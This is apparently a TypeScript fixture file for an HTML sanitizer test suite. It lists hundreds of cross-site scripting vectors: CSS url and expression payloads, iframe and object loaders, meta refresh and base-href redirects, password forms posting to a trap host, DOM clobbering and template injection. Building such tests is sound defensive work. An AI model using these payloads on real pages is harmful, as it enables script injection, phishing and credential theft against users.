/** What reaches out of the text: styles, frames, forms, whatever belongs into a head, and names that shadow the page's own. */
import type { Vector } from './vector.ts';

const styles = [
  '<p style="background:url({TRAP}/b.png)">a</p>',
  '<p style="background-image:image-set(\'{TRAP}/b.png\' 1x)">a</p>',
  '<p style="list-style-image:url({TRAP}/l.png);cursor:url({TRAP}/c.cur),auto">a</p>',
  '<p style="content:url({TRAP}/c.png);border-image:url({TRAP}/bi.png)">a</p>',
  '<p style="filter:url({TRAP}/f.svg#x);mask:url({TRAP}/m.png);-webkit-mask:url({TRAP}/w.png)">a</p>',
  '<p style="shape-outside:url({TRAP}/s.png);offset-path:url({TRAP}/o.svg#p)">a</p>',
  '<p style="width:expression({RUN});-moz-binding:url({TRAP}/x.xml#a);behavior:url({TRAP}/x.htc)">a</p>',
  '<p style="background:\\75\\72\\6c({TRAP}/e.png)">a</p>',
  '<p style="background:u/**/rl({TRAP}/e.png)">a</p>',
  '<p style="position:fixed;inset:0;z-index:99999;background:white">cover</p>',
  '<p style="animation:x 1s" onanimationstart={RUN}>a</p><style>@keyframes x{}</style>',
  '<style>@import "{TRAP}/i.css";@import url({TRAP}/i2.css);</style>',
  '<style>@font-face{font-family:x;src:url({TRAP}/f.woff)}*{font-family:x}</style>',
  '<style>*{background:url({TRAP}/s.png)} :host{display:none} body{display:none!important}</style>',
  '<style>@namespace "{TRAP}";@charset "utf-7";@layer x{*{background:url({TRAP}/l.png)}}</style>',
  '<style></style\u0000><img src=x onerror={RUN}>',
  '<style><!--</style><img src=x onerror={RUN}>--></style>',
  '<style media="screen and (url({TRAP}/m))">x</style><style type="text/x">@import "{TRAP}/y.css"</style>',
  '<link rel=stylesheet href="{TRAP}/l.css"><link rel="alternate stylesheet" title=x href="{TRAP}/a.css">',
  '<link rel=preload as=script href="{TRAP}/p.js"><link rel=modulepreload href="{TRAP}/m.js">',
  '<link rel=prefetch href="{TRAP}/pf"><link rel=prerender href="{TRAP}/pr"><link rel=dns-prefetch href="{TRAP}/d">',
  '<link rel=preconnect href="{TRAP}"><link rel=icon href="{TRAP}/i.ico"><link rel=manifest href="{TRAP}/m.json">',
  '<link rel=import href="{TRAP}/i.html"><link rel=stylesheet href="data:text/css,@import \'{TRAP}/d.css\'">',
  '<font face="x" style="src:url({TRAP}/f)" color="url({TRAP}/c)">a</font><hr style="background:url({TRAP}/h)">',
];

const frames = [
  '<iframe src="{TRAP}/f.html"></iframe>',
  '<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.{RUN}&gt;"></iframe>',
  '<iframe src="about:blank" onload={RUN}></iframe>',
  '<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" src="{TRAP}/s.html"></iframe>',
  '<iframe credentialless allow="camera;microphone" src="{TRAP}/c.html"></iframe>',
  '<frameset><frame src="javascript:{RUN}"><frame src="{TRAP}/fr.html"></frameset>',
  '<fencedframe config="{TRAP}"></fencedframe><portal src="{TRAP}/p.html"></portal>',
  '<webview src="{TRAP}/w.html" preload="{TRAP}/p.js" nodeintegration></webview>',
  '<browserplugin src="{TRAP}/b.html"></browserplugin><controlledframe src="{TRAP}/c.html"></controlledframe>',
  '<object data="{TRAP}/o.swf" type="application/x-shockwave-flash"><param name=movie value="{TRAP}/m.swf"></object>',
  '<object type="text/html" data="data:text/html,<script>{RUN}</script>"></object>',
  '<object data="x"><img src=x onerror={RUN}></object>',
  '<object classid="clsid:0" codebase="{TRAP}/cab" onerror={RUN}></object>',
  '<embed src="{TRAP}/e.swf" allowscriptaccess=always><embed code="{TRAP}/c.swf">',
  '<embed type="image/svg+xml" src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InBhcmVudC5fX3B3bmVkKC0yKSIvPg==">',
  '<applet code=x archive="{TRAP}/a.jar" codebase="{TRAP}/"></applet><bgsound src="{TRAP}/b.wav"><layer src="{TRAP}/l">',
  '<xml id=x src="{TRAP}/x.xml"></xml><span datasrc=#x datafld=y dataformatas=html></span>',
];

const heads = [
  '<meta http-equiv=refresh content="0;url={TRAP}/r">',
  '<meta http-equiv="refresh" content="0;javascript:{RUN}">',
  '<meta http-equiv=Refresh content="0, url=data:text/html,<script>{RUN}</script>">',
  '<meta http-equiv=set-cookie content="a=b"><meta http-equiv=Content-Security-Policy content="script-src \'unsafe-inline\'">',
  '<meta name=referrer content=unsafe-url><meta charset=utf-7>+ADw-script+AD4-{RUN}+ADw-/script+AD4-',
  '<base href="{TRAP}/"><img src="relative.png"><a href="relative">a</a>',
  '<base href="javascript:{RUN}//"><a href="#">a</a>',
  '<base target="_blank"><a href="https://example.org/" target="x" rel="opener">a</a>',
  '<title><img src=x onerror={RUN}></title><head><script>{RUN}</script></head>',
  '<html onload={RUN} manifest="{TRAP}/m.appcache"><body onpageshow={RUN}>',
  '<!doctype html [<!ENTITY x "<img src=x onerror={RUN}>">]>&x;',
];

const forms = [
  '<form action="{TRAP}/f" onsubmit={RUN}><input name=password><button>send</button></form>',
  '<form id=f action="{TRAP}/f"></form><button form=f formaction="javascript:{RUN}">send</button>',
  '<button formaction="{TRAP}/b" formmethod=post>send</button>',
  '<input type=submit formaction="javascript:{RUN}" value=send><input type=image src="{TRAP}/i.png" formaction="{TRAP}/j">',
  '<input type=password autocomplete=current-password><textarea name=x autofocus onfocus={RUN}></textarea>',
  '<select onchange={RUN} autofocus onfocus={RUN}><option>a<img src=x onerror={RUN}></select>',
  '<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror={RUN}></option></select>',
  '<input type=file onchange={RUN}><input type=color oninput={RUN}><input type=range oninput={RUN}>',
  '<input type=checkbox onchange={RUN} checked><label for=x onclick={RUN}>label</label>',
  '<fieldset form=x onfocusin={RUN}><legend>l</legend><input></fieldset><output onclick={RUN} for=x>o</output>',
  '<isindex type=image src=1 onerror={RUN}><meter onmouseover={RUN}></meter><progress onclick={RUN}></progress>',
  '<button commandfor=d command=show-modal>x</button><dialog id=d onbeforetoggle={RUN}>y</dialog>',
];

/** Names that the page, or whoever cleans it, looks up (DOM clobbering). */
const clobbering = [
  ...'attributes childNodes nodeName nodeType parentNode removeChild removeAttribute setAttribute getAttributeNode firstChild innerHTML ownerDocument content shadowRoot'
    .split(' ')
    .map((name) => `<form onclick={RUN}><input name=${name} onfocus={RUN} autofocus>${name}</form>`),
  ...'offprint document location getElementById body head root article-list reading-scroll currentScript defaultView cookie implementation createElement'
    .split(' ')
    .map(
      (name) =>
        `<a id=${name} name=${name} href="javascript:{RUN}">a</a><img name=${name} id=${name} alt="">`,
    ),
  '<a id=x><a id=x name=y href="{TRAP}/clobber">two</a>',
  '<form id=x><output id=y name=z>t</output></form><iframe name=offprint srcdoc="<a id=call></a>"></iframe>',
  '<object id=offprint name=call data="{TRAP}/o"></object><embed name=offprint src="{TRAP}/e">',
];

const plain = [
  'plain text & nothing < else > "here" \' {RUN}',
  '{{constructor.constructor("{RUN}")()}}',
  '#{ {RUN} } <%= {RUN} %> {% {RUN} %}',
  '<div ng-app ng-csp><input ng-focus=$event.view.{RUN} autofocus></div>',
  '<div v-html="\'<img src=x onerror={RUN}>\'" x-data x-init="{RUN}" hx-get="{TRAP}/hx" hx-trigger=load data-bind="html: {RUN}">a</div>',
  '<div data-src="{TRAP}/d" data-url="javascript:{RUN}" data-action="click->{RUN}" is="x-y" slot=x part=y nonce=z>a</div>',
  '<p itemprop="url" itemid="{TRAP}/id" itemtype="{TRAP}/type">a</p><time datetime="{RUN}">t</time>',
  '<p lang="&quot; onclick={RUN}" dir="rtl&quot;onclick={RUN}">a</p><bdo dir="{RUN}">b</bdo>',
  '<p>\u202e<a href="https://example.org/">moc.live</a>\u202c \u2066x\u2069</p>',
  '<p accesskey=x onclick={RUN} tabindex=1 draggable=true ondragstart={RUN} hidden popover inert>a</p>',
  '<ul><li type="{RUN}" value="{RUN}"></li></ul><ol start="{RUN}" type="javascript:{RUN}"><li>a</ol>',
  '<td background="{TRAP}/td.png">a</td><table><tr background="{TRAP}/tr.png"><th background="{TRAP}/th.png">b</table>',
  '<img src="{TRAP}/a.png" dynsrc="{TRAP}/d.avi" lowsrc="javascript:{RUN}" longdesc="javascript:{RUN}" crossorigin=use-credentials>',
  '<picture><source srcset="javascript:{RUN}" onerror={RUN}><img src=x onerror={RUN}></picture>',
  '<picture><img src=x onerror={RUN}><source srcset="{TRAP}/late.png"></picture><picture><script>{RUN}</script></picture>',
  '<img srcset="{TRAP}/a.png 1x, javascript:{RUN} 2x" sizes="(max-width:{RUN})" attributionsrc="{TRAP}/at">',
  '<img data-src="javascript:{RUN}" data-srcset="javascript:{RUN} 1x" class=lazyload src="data:image/gif;base64,R0">',
  '<video controls><source src="javascript:{RUN}" onerror={RUN}><track src="{TRAP}/t.vtt" default><img src=x onerror={RUN}></video>',
  '<svg><metadata><img src=x onerror={RUN}></metadata></svg><noframes><img src=x onerror={RUN}></noframes>',
];

const listed = (group: string, list: readonly string[]): Vector[] =>
  list.map((html, index) => ({ name: `${group}/${index}`, html }));

export const documentVectors: readonly Vector[] = [
  ...listed('style', styles),
  ...listed('frame', frames),
  ...listed('head', heads),
  ...listed('form', forms),
  ...listed('clobbering', clobbering),
  ...listed('plain', plain),
];
